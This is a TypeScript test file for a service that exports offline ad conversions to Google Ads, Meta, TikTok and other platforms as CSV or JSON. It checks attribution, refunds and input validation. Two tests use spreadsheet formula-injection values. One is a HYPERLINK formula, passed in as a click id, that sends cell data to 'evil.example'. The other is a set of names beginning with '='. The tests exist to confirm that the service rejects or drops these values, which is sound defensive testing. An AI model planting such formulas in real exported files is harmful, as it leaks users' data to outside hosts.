import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { offlinePlatformNames } from '../../src/domain/offline-platforms.ts';
import { capture, freshVisitor, publishableKey } from '../support/capture.ts';
import { testClock } from '../support/clock.ts';
import { startTestService, type TestService } from '../support/service.ts';

const gclid = 'Cj0KCQiA_notARealClick-0123456789abcdefgh';
const fbclid = `IwAR${'x'.repeat(50)}`;

const clock = testClock();
let service: TestService;
beforeAll(async () => {
  service = await startTestService({}, clock.now);
  const ago = (days: number) => new Date(clock.now() - days * 86_400_000).toISOString();
  const touch = (customerId: string, days: number, facts: object) =>
    service.call('POST', `/customers/${customerId}/lead-sources`, {
      body: { occurredTime: ago(days), ...facts },
    });
  await touch('ads', 6, { source: 'google', clickId: gclid, path: 'https://shop.example/?a' });
  await touch('ads', 5, { source: 'facebook', clickId: fbclid });
  await touch('ads', 4, { medium: 'email' });
  await touch('mail', 5, { medium: 'email' });
  for (const [id, customerId, days, amount, currency] of [
    ['shared', 'ads', 3, '10.01', 'EUR'],
    ['yen', 'ads', 2, '900', 'JPY'],
    ['mailed', 'mail', 2, '5.00', 'EUR'],
    ['unknown', 'nobody', 2, '5.00', 'EUR'],
  ] as const) {
    const body = { id, customerId, amount, currency, occurredTime: ago(days), orderId: `A-${id}` };
    await service.call('POST', '/conversions', { body });
  }
  const refund = (amount: string, days: number) =>
    service.call('POST', '/conversions/shared/refunds', { body: { amount, occurredTime: ago(days) } });
  await refund('1.00', 2);
  await refund('0.01', 1);
});
afterAll(() => service[Symbol.asyncDispose]());

const day = (days: number) => new Date(clock.now() + days * 86_400_000).toISOString().slice(0, 10);

async function answerTo(platform: string, more: Readonly<Record<string, string>> = {}, on = service) {
  const asked = { platform, conversionName: 'Sale', periodStart: day(-30), periodEnd: day(1), ...more };
  const { status, body } = await on.call('GET', `/exports/offline-conversions?${new URLSearchParams(asked)}`);
  return {
    status,
    ...(body as { files: readonly { content: string; rows: number }[]; leftOut: readonly object[] }),
  };
}

const second = (days: number, zone: string) =>
  new Date(clock.now() - days * 86_400_000).toISOString().slice(0, 19).replace('T', ' ') + zone;

describe('GET /exports/offline-conversions', () => {
  test('tells of the touch that a model credits, and what is left out and why', async () => {
    const { status, files, leftOut, ...about } = await answerTo('google-ads', { model: 'first' });
    expect([status, about]).toMatchObject([200, { model: 'first', settingsVersion: 1, timezone: 'UTC' }]);
    expect(files).toEqual([
      {
        name: 'google-ads-1.csv',
        mediaType: 'text/csv',
        rows: 2,
        content:
          'Parameters:TimeZone=+0000\r\n' +
          'Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency,Order ID\r\n' +
          `${gclid},Sale,${second(3, '+0000')},10.01,EUR,A-shared\r\n` +
          `${gclid},Sale,${second(2, '+0000')},900,JPY,A-yen\r\n`,
      },
    ]);
    expect(leftOut).toEqual([
      { conversionId: 'mailed', reason: 'No touch that first credits has a click id.' },
      { conversionId: 'unknown', reason: 'No touch that first credits has a click id.' },
    ]);
    // The last touch that is not direct came from an e-mail.
    expect(await answerTo('google-ads')).toMatchObject({ model: 'last-non-direct', files: [] });
  });

  test('shares a conversion where the platform can', async () => {
    const { files } = await answerTo('google-ads-multi-touch', { model: 'linear' });
    const rows = files[0]?.content.split('\r\n').slice(3);
    expect(rows).toEqual([
      `${gclid},Sale,${second(3, '+0000')},0.333333333,3.33,EUR`,
      `${gclid},Sale,${second(2, '+0000')},0.333333333,300,JPY`,
      '',
    ]);
    const { files: bodies } = await answerTo('meta', { model: 'linear' });
    const { data } = JSON.parse(bodies[0]?.content ?? '') as { data: readonly object[] };
    expect(data).toMatchObject([
      { event_id: 'shared', user_data: { fbc: expect.stringMatching(/^fb\.1\.\d+\.IwARx+$/) } },
      { event_id: 'yen', custom_data: { value: 300, currency: 'JPY' } },
    ]);
  });

  test('tells of refunds that were given in the period, as what is left now, dated by when they were told', async () => {
    const { files, leftOut } = await answerTo('google-ads-adjustments', {
      model: 'first',
      periodStart: day(-1),
      periodEnd: day(1),
    });
    expect(files[0]?.content.split('\r\n')[2]).toBe(`A-shared,Sale,${second(0, '+0000')},RESTATE,9.00,EUR`);
    expect([files[0]?.rows, leftOut]).toEqual([1, []]);
    const none = await answerTo('google-ads-adjustments', { periodStart: day(-30), periodEnd: day(-3) });
    expect([none.files, none.leftOut]).toEqual([[], []]);
  });

  test('tells of no refund where the platform cannot tell which conversion it is of', async () => {
    await using other = await startTestService({}, clock.now);
    const occurredTime = new Date(clock.now() - 86_400_000).toISOString();
    await other.call('POST', '/customers/c/lead-sources', { body: { occurredTime, clickId: gclid } });
    for (const id of ['one', 'same']) {
      const body = { id, customerId: 'c', amount: '5.00', currency: 'EUR', orderId: 'A' };
      await other.call('POST', '/conversions', { body });
    }
    await other.call('POST', '/conversions/one/refunds', { body: {} });
    const { files, leftOut } = await answerTo('google-ads-adjustments', { model: 'first' }, other);
    expect(files).toEqual([]);
    expect(leftOut).toMatchObject([
      { conversionId: 'one', reason: expect.stringMatching(/^Another conversion is the same/) },
    ]);
  });

  test('chooses conversions by their period, the end excluded', async () => {
    const start = new Date(clock.now() - 3 * 86_400_000).toISOString();
    const { files } = await answerTo('google-ads', {
      model: 'first',
      periodStart: start,
      periodEnd: day(-2),
    });
    expect(files[0]?.content.match(/A-\w+/g)).toEqual(['A-shared']);
  });

  describe('whatever there is', () => {
    const shopClock = testClock();
    const clickIds = { gclid, fbclid, msclkid: 'a'.repeat(32), li_fat_id: 'b'.repeat(36), ttclid: 'E.C.P.c' };
    let shop: TestService;
    beforeAll(async () => {
      shop = await startTestService({}, shopClock.now);
      const { key } = await publishableKey(shop);
      const visitorId = freshVisitor();
      for (const [kind, clickId] of Object.entries(clickIds))
        await capture(shop, key, { visitorId, url: `https://shop.example/?${kind}=${clickId}` });
      await shop.call('POST', '/customers/clicks/visitors', { body: { visitorId } });
      shopClock.advance(60_000);
      const sold = { id: 'sold', customerId: 'clicks', amount: '9.00', currency: 'EUR', orderId: 'A' };
      await shop.call('POST', '/conversions', { body: sold });
      await shop.call('POST', '/conversions/sold/refunds', { body: { amount: '1.00' } });
    });
    afterAll(() => shop[Symbol.asyncDispose]());

    test.each(offlinePlatformNames)('answers for %s', async (platform) => {
      const { status, files } = await answerTo(platform, { model: 'linear', sourceId: 'PIXEL' }, shop);
      expect(status).toBe(200);
      expect(files).toMatchObject([{ rows: 1, content: expect.stringMatching(/./) }]);
    });
  });

  test.each([
    [{ platform: 'myspace' }, ['platform']],
    [
      { platform: '', conversionName: '', model: 'best', periodStart: 'x', periodEnd: '', timezone: 'Mars' },
      null,
    ],
    [{ platform: 'tiktok' }, ['sourceId']],
    [{ platform: 'tiktok', sourceId: 'a\u0000b' }, ['sourceId']],
    [{ conversionName: 'two\nlines' }, ['conversionName']],
    [{ conversionName: 'x'.repeat(256) }, ['conversionName']],
    [{ periodStart: '2026-02-30' }, ['periodStart']],
    [{ periodStart: day(1), periodEnd: day(1) }, ['periodEnd']],
  ])('refuses %j with 422 and every field that is wrong', async (more, fields) => {
    const { status, ...problem } = await answerTo('google-ads', more as Readonly<Record<string, string>>);
    const { invalidFields } = problem as unknown as { invalidFields: readonly { field: string }[] };
    const all = ['conversionName', 'model', 'periodEnd', 'periodStart', 'platform', 'timezone'];
    expect([status, invalidFields.map(({ field }) => field).toSorted()]).toEqual([422, fields ?? all]);
  });

  test('takes no name for a table that a spreadsheet would run', async () => {
    for (const conversionName of ['=1+2', '+1', '-1', '@a', '＝1']) {
      const statusOf = async (platform: string) =>
        (await answerTo(platform, { conversionName, sourceId: 'PIXEL' })).status;
      for (const platform of offlinePlatformNames) {
        const isTable = /^(?:google-ads(?!-api)|microsoft)/.test(platform);
        expect([platform, await statusOf(platform)]).toEqual([platform, isTable ? 422 : 200]);
      }
    }
  });

  test('leaves out what a visitor wrote in the place of a click id', async () => {
    await using shop = await startTestService({}, clock.now);
    const { key } = await publishableKey(shop);
    const visitorId = freshVisitor();
    const wrong = encodeURIComponent('=HYPERLINK("https://evil.example/?"&A3,"ok")');
    await capture(shop, key, { visitorId, url: `https://shop.example/?gclid=${wrong}` });
    clock.advance(1000);
    await shop.call('POST', '/customers/c/visitors', { body: { visitorId } });
    const body = { id: 'con', customerId: 'c', amount: '5.00', currency: 'EUR', orderId: '=1+2' };
    await shop.call('POST', '/conversions', { body });
    const reason = 'What came as a gclid has characters that no click id has.';
    const answer = await answerTo('google-ads-multi-touch', {}, shop);
    expect(answer).toMatchObject({ files: [], leftOut: [{ conversionId: 'con', reason }] });
  });

  test('takes a name of 255 characters, however many bytes they are', async () => {
    expect((await answerTo('google-ads', { conversionName: '😀'.repeat(255) })).status).toBe(200);
    expect((await answerTo('google-ads', { conversionName: '😀'.repeat(256) })).status).toBe(422);
  });

  test('takes what a member is given twice for a fault, and the right to reports', async () => {
    const query =
      'platform=meta&platform=tiktok&conversionName=a&conversionName=b&periodStart=2026-01-01&periodEnd=2026-02-01';
    const { status, body } = await service.call('GET', `/exports/offline-conversions?${query}`);
    const { invalidFields } = body as { invalidFields: readonly { field: string }[] };
    expect([status, invalidFields.map(({ field }) => field)]).toEqual([422, ['platform', 'conversionName']]);
    const made = await service.call('POST', '/api-keys', {
      body: { type: 'secret', acl: ['conversions:read', 'lead-sources:read'] },
    });
    const { secretKey } = made.body as { secretKey: string };
    const path = '/exports/offline-conversions?platform=meta';
    expect((await service.call('GET', path, { key: secretKey })).status).toBe(403);
  });
});
